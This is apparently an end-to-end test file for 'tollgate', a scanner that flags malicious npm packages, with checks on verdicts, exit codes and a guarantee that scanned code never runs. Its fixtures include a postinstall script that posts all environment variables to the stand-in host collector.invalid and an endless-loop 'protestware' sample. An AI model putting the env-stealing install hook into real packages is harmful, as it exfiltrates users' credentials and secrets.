// End to end: `main(argv)` against a loopback registry, the way a user runs `tollgate scan`.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { Ajv2020 } from 'ajv/dist/2020.js';
import { afterAll, afterEach, beforeAll, describe, expect, test, vi } from 'vitest';
import type { JsonReport } from '../src/report/json.js';
import { packTarball, startRegistry, type FixturePackage, type TestRegistry } from './helpers/registry.js';
import { runCli, type Run } from './helpers/run-cli.js';

const ROOT = path.resolve(import.meta.dirname, '..');
const schema = JSON.parse(fs.readFileSync(path.join(ROOT, 'schema/report.schema.json'), 'utf8')) as object;
const validateReport = new Ajv2020({ allErrors: true, strict: true }).compile(schema);

/** Writes a marker into $TOLLGATE_CANARY_DIR: if any of it ever runs, the folder is not empty. */
const canary = (marker: string): string => `require('fs').writeFileSync(process.env.TOLLGATE_CANARY_DIR + '/${marker}', 'x');\n`;

const FIXTURES: FixturePackage[] = [
  {
    name: 'tidy-lib',
    version: '1.0.0',
    files: {
      'package.json': JSON.stringify({ name: 'tidy-lib', version: '1.0.0', main: 'index.js' }),
      'index.js': 'module.exports = function add(a, b) { return a + b; };\n',
    },
  },
  {
    name: 'env-stealer',
    version: '2.3.1',
    files: {
      'package.json': JSON.stringify({ name: 'env-stealer', version: '2.3.1', main: 'index.js', scripts: { postinstall: 'node setup.js' } }),
      'index.js': 'module.exports = {};\n',
      'setup.js': [
        "const https = require('https');",
        'const body = JSON.stringify(process.env);',
        "const req = https.request('https://collector.invalid/c', { method: 'POST', headers: { 'content-type': 'application/json' } });",
        "req.on('error', () => {});",
        'req.end(body);',
        '',
      ].join('\n'),
    },
  },
  {
    name: 'protest-ware',
    version: '6.6.6',
    files: {
      'package.json': JSON.stringify({ name: 'protest-ware', version: '6.6.6', main: 'index.js' }),
      'index.js': "const msg = 'LIBERTY';\nfor (let i = 666; i < Infinity; i++) {\n  console.log(msg + i);\n}\nmodule.exports = {};\n",
    },
  },
  {
    name: 'canary-pkg',
    version: '1.0.0',
    files: {
      'package.json': JSON.stringify({
        name: 'canary-pkg',
        version: '1.0.0',
        main: 'main.js',
        bin: { canary: 'cli.js' },
        scripts: { preinstall: 'node pre.js', postinstall: 'node install.js', prepare: 'node prepare.js' },
      }),
      'main.js': canary('ran-main'),
      'cli.js': `#!/usr/bin/env node\n${canary('ran-bin')}`,
      'install.js': canary('ran-postinstall'),
      'pre.js': canary('ran-preinstall'),
      'prepare.js': canary('ran-prepare'),
    },
  },
];

let registry: TestRegistry;
let tmp: string;
let cache: string;
let canaryDir: string;
const savedCanaryEnv = process.env.TOLLGATE_CANARY_DIR;
const savedCacheEnv = process.env.TOLLGATE_CACHE_DIR;

beforeAll(async () => {
  tmp = await fs.promises.mkdtemp(path.join(os.tmpdir(), 'tollgate-cli-'));
  cache = path.join(tmp, 'cache');
  canaryDir = path.join(tmp, 'canary');
  await fs.promises.mkdir(canaryDir);
  process.env.TOLLGATE_CANARY_DIR = canaryDir;
  // Registry signals cache packuments and previous-version analyses here, never in the user's home.
  process.env.TOLLGATE_CACHE_DIR = path.join(tmp, 'tollgate-cache');
  registry = await startRegistry(FIXTURES);
});

afterAll(async () => {
  if (savedCanaryEnv === undefined) delete process.env.TOLLGATE_CANARY_DIR;
  else process.env.TOLLGATE_CANARY_DIR = savedCanaryEnv;
  if (savedCacheEnv === undefined) delete process.env.TOLLGATE_CACHE_DIR;
  else process.env.TOLLGATE_CACHE_DIR = savedCacheEnv;
  await registry?.close();
  if (tmp) await fs.promises.rm(tmp, { recursive: true, force: true });
});

afterEach(() => {
  vi.restoreAllMocks();
});

const run = runCli;

/** `tollgate scan <targets> --json` against the loopback registry. */
async function scanJson(targets: string[], extra: string[] = []): Promise<Run & { report: JsonReport }> {
  const r = await run(['scan', ...targets, '--json', '--quiet', '--registry', registry.url, '--cache', cache, ...extra]);
  let report: JsonReport;
  try {
    report = JSON.parse(r.stdout) as JsonReport;
  } catch (e) {
    throw new Error(`stdout is not JSON (exit ${r.code}): ${r.stdout.slice(0, 500)}\nstderr: ${r.stderr.slice(0, 500)}`, { cause: e });
  }
  expect(validateReport(report), JSON.stringify(validateReport.errors, null, 1)).toBe(true);
  return { ...r, report };
}

const byName = (report: JsonReport, name: string) => {
  const p = report.packages.find((x) => x.name === name);
  if (!p) throw new Error(`${name} not in report: ${report.packages.map((x) => x.name).join(', ')}`);
  return p;
};

const VERDICT_RANK = { malicious: 3, suspicious: 2, error: 1, clean: 0 } as const;
const CODE_FILE = /\.(?:[cm]?js|jsx|[cm]?ts|tsx)$/;

describe('tollgate scan --json through a loopback registry', () => {
  test('a malicious package makes the exit code 1 (default --fail-on malicious); report is schema-valid and sorted', async () => {
    const { code, report, stderr } = await scanJson(['tidy-lib', 'protest-ware@6.6.6', 'env-stealer@^2']);
    expect(code, stderr).toBe(1);
    expect(report.tool.name).toBe('tollgate');
    expect(report.packages.map((p) => p.name)).toEqual(['env-stealer', 'protest-ware', 'tidy-lib']);
    expect(report.summary).toEqual({ total: 3, malicious: 1, suspicious: 1, clean: 1, error: 0 });
    const ranks = report.packages.map((p) => VERDICT_RANK[p.verdict]);
    expect(ranks).toEqual([...ranks].sort((a, b) => b - a));
    for (let i = 1; i < report.packages.length; i++) {
      const [a, b] = [report.packages[i - 1]!, report.packages[i]!];
      if (a.verdict === b.verdict) expect(a.score).toBeGreaterThanOrEqual(b.score);
    }

    const evil = byName(report, 'env-stealer');
    expect(evil).toMatchObject({ version: '2.3.1', source: 'registry', verdict: 'malicious' });
    expect(evil.integrity).toMatch(/^sha512-/);
    expect(evil.score).toBeGreaterThanOrEqual(70);
    expect(evil.reasons.length).toBeGreaterThan(0);
    const env = evil.findings.find((f) => f.rule === 'env-access');
    expect(env).toMatchObject({ file: 'setup.js', line: 2, reach: 'install' });
    expect(env!.evidence).toContain('process.env');

    expect(byName(report, 'protest-ware')).toMatchObject({ verdict: 'suspicious' });
    expect(byName(report, 'protest-ware').findings.find((f) => f.rule === 'sabotage')).toMatchObject({ file: 'index.js', line: 2, reach: 'import' });
    const tidy = byName(report, 'tidy-lib');
    expect(tidy).toMatchObject({ verdict: 'clean', version: '1.0.0', score: 0 });
    // Registry signals are on by default; for a plain package they are informational only.
    expect(tidy.findings.filter((f) => f.severity !== 'info')).toEqual([]);

    for (const p of report.packages) {
      for (const f of p.findings) {
        expect(f.rule).toMatch(/^[a-z0-9]+(-[a-z0-9]+)*$/);
        // Code findings point at a file and a line.
        if (f.file && CODE_FILE.test(f.file)) {
          expect(f.line, `${p.name} ${f.rule} ${f.file}`).toBeGreaterThanOrEqual(1);
          expect(f.column, `${p.name} ${f.rule} ${f.file}`).not.toBeNull();
        }
      }
    }
  });

  test('only clean packages: exit 0', async () => {
    const { code, report } = await scanJson(['tidy-lib@1.0.0']);
    expect(code).toBe(0);
    expect(report.packages).toHaveLength(1);
    expect(report.packages[0]).toMatchObject({ name: 'tidy-lib', verdict: 'clean', score: 0 });
  });

  test('scan of several targets off a terminal logs progress on stderr; one target or --quiet does not', async () => {
    const many = await run(['scan', 'tidy-lib', 'protest-ware@6.6.6', 'env-stealer@^2', '--json', '--registry', registry.url, '--cache', cache]);
    expect(JSON.parse(many.stdout).summary.total).toBe(3);
    expect(many.stderr).toMatch(/^tollgate: 3\/3 packages \(100%\)/m);
    const one = await run(['scan', 'tidy-lib', '--json', '--registry', registry.url, '--cache', cache]);
    expect(one.stderr).not.toMatch(/packages \(\d+%\)/);
    const quiet = await run(['scan', 'tidy-lib', 'env-stealer@^2', '--json', '--quiet', '--registry', registry.url, '--cache', cache]);
    expect(quiet.stderr).not.toMatch(/packages \(\d+%\)/);
  });

  test('--fail-on suspicious fails on the protestware; default and never do not', async () => {
    expect((await scanJson(['protest-ware'], ['--fail-on', 'suspicious'])).code).toBe(1);
    expect((await scanJson(['protest-ware'])).code).toBe(0);
    expect((await scanJson(['protest-ware', 'tidy-lib'], ['--fail-on', 'malicious'])).code).toBe(0);
  });

  test('--fail-on never: exit 0 even with a malicious package in the report', async () => {
    const { code, report } = await scanJson(['env-stealer', 'tidy-lib'], ['--fail-on', 'never']);
    expect(code).toBe(0);
    expect(report.packages[0]).toMatchObject({ name: 'env-stealer', verdict: 'malicious' });
  });

  test('an unknown package is an "error" entry and exit 2, while the other targets are still reported', async () => {
    const { code, report, stderr } = await scanJson(['tidy-lib', 'no-such-package-xyz', 'protest-ware']);
    expect(code).toBe(2);
    expect(report.packages.map((p) => [p.name, p.verdict])).toEqual([
      ['protest-ware', 'suspicious'],
      ['no-such-package-xyz', 'error'],
      ['tidy-lib', 'clean'],
    ]);
    const missing = byName(report, 'no-such-package-xyz');
    expect(missing).toMatchObject({ version: '', source: 'unknown', integrity: null, findings: [] });
    expect(missing.error).toMatch(/no-such-package-xyz/);
    expect(missing.error).toMatch(/404|not found|E404/i);
    expect(stderr).toContain('no-such-package-xyz');
  });

  test('a failing verdict outranks an error for the exit code: malicious + unknown -> 1', async () => {
    const { code, report } = await scanJson(['no-such-package-xyz', 'env-stealer']);
    expect(code).toBe(1);
    expect(report.packages.map((p) => p.verdict)).toEqual(['malicious', 'error']);
  });

  test('an unknown version of a known package is an error too, never clean', async () => {
    const { code, report } = await scanJson(['tidy-lib@9.9.9']);
    expect(code).toBe(2);
    expect(report.packages[0]).toMatchObject({ verdict: 'error' });
  });

  test('the human report names the malicious package and its reasons', async () => {
    const r = await run(['scan', 'env-stealer', 'tidy-lib', '--no-color', '--quiet', '--registry', registry.url, '--cache', cache]);
    expect(r.code).toBe(1);
    expect(r.stdout).toContain('env-stealer');
    expect(r.stdout).toMatch(/malicious/i);
    expect(r.stdout).not.toContain('\u001b[');
  });

  test('lifecycle-script findings in package.json are reported at install reach', async () => {
    const { report } = await scanJson(['env-stealer']);
    const scripts = byName(report, 'env-stealer').findings.filter((f) => f.rule === 'install-scripts' && f.file === 'package.json');
    expect(scripts.length).toBeGreaterThan(0);
    for (const f of scripts) expect(f.reach).toBe('install');
  });
});

describe('nothing in a scanned package ever runs', () => {
  const canaryEmpty = () => expect(fs.readdirSync(canaryDir)).toEqual([]);

  test('registry package whose preinstall, postinstall, prepare, main and bin write markers', async () => {
    canaryEmpty();
    const { code, report } = await scanJson(['canary-pkg']);
    expect([0, 1]).toContain(code);
    const p = byName(report, 'canary-pkg');
    expect(p.verdict).not.toBe('error');
    // The scanner did read the code: its writes and install scripts are findings.
    expect(p.findings.some((f) => f.file === 'install.js' || f.file === 'package.json')).toBe(true);
    canaryEmpty();
  });

  test('the same package as a local folder (prepare must not run) and as a local tarball', async () => {
    const dir = path.join(tmp, 'canary-folder');
    await fs.promises.mkdir(dir, { recursive: true });
    const files = FIXTURES.find((f) => f.name === 'canary-pkg')!.files;
    for (const [rel, content] of Object.entries(files)) await fs.promises.writeFile(path.join(dir, rel), content);
    const tgz = path.join(tmp, 'canary-pkg-1.0.0.tgz');
    await fs.promises.writeFile(tgz, await packTarball(files));

    const { code, report } = await scanJson([dir, tgz]);
    expect([0, 1]).toContain(code);
    expect(report.packages).toHaveLength(2);
    for (const p of report.packages) {
      expect(p.verdict, p.error).not.toBe('error');
      expect(p.name).toBe('canary-pkg');
    }
    expect(report.packages.map((p) => p.source).sort()).toEqual(['directory', 'file']);
    canaryEmpty();
    // Scanning the folder left it as it was: no build output, no node_modules.
    expect(fs.readdirSync(dir).sort()).toEqual(Object.keys(files).sort());
  });
});

describe('CLI usage', () => {
  test('help prints usage and exits 0', async () => {
    for (const argv of [['help'], ['--help'], ['-h']]) {
      const r = await run(argv);
      expect(r.code).toBe(0);
      expect(r.stdout).toMatch(/Usage:/);
      expect(r.stdout).toContain('tollgate scan <target>');
      expect(r.stdout).toContain('--fail-on');
    }
  });

  test('no command prints usage and exits 2', async () => {
    const r = await run([]);
    expect(r.code).toBe(2);
    expect(r.stdout).toMatch(/Usage:/);
  });

  test('an unknown command exits 2 with a message on stderr', async () => {
    const r = await run(['scna', 'express']);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('unknown command "scna"');
    expect(r.stdout).toBe('');
  });

  test('scan with no target exits 2', async () => {
    const r = await run(['scan', '--json']);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/at least one target/);
    expect(r.stdout).toBe('');
  });

  test.each([
    [['scan', 'tidy-lib', '--fail-on', 'sometimes']],
    [['scan', 'tidy-lib', '--concurrency', '0']],
    [['scan', 'tidy-lib', '--no-such-flag']],
  ])('bad options exit 2: %j', async (argv) => {
    const r = await run(argv);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/tollgate:/);
    expect(r.stdout).toBe('');
  });

  test('rules lists every rule with a kebab-case id', async () => {
    const r = await run(['rules']);
    expect(r.code).toBe(0);
    const ids = [...r.stdout.matchAll(/^(\S+) {2}\(/gm)].map((m) => m[1]!);
    expect(ids.length).toBeGreaterThan(5);
    for (const id of ids) expect(id).toMatch(/^[a-z0-9]+(-[a-z0-9]+)*$/);
  });
});
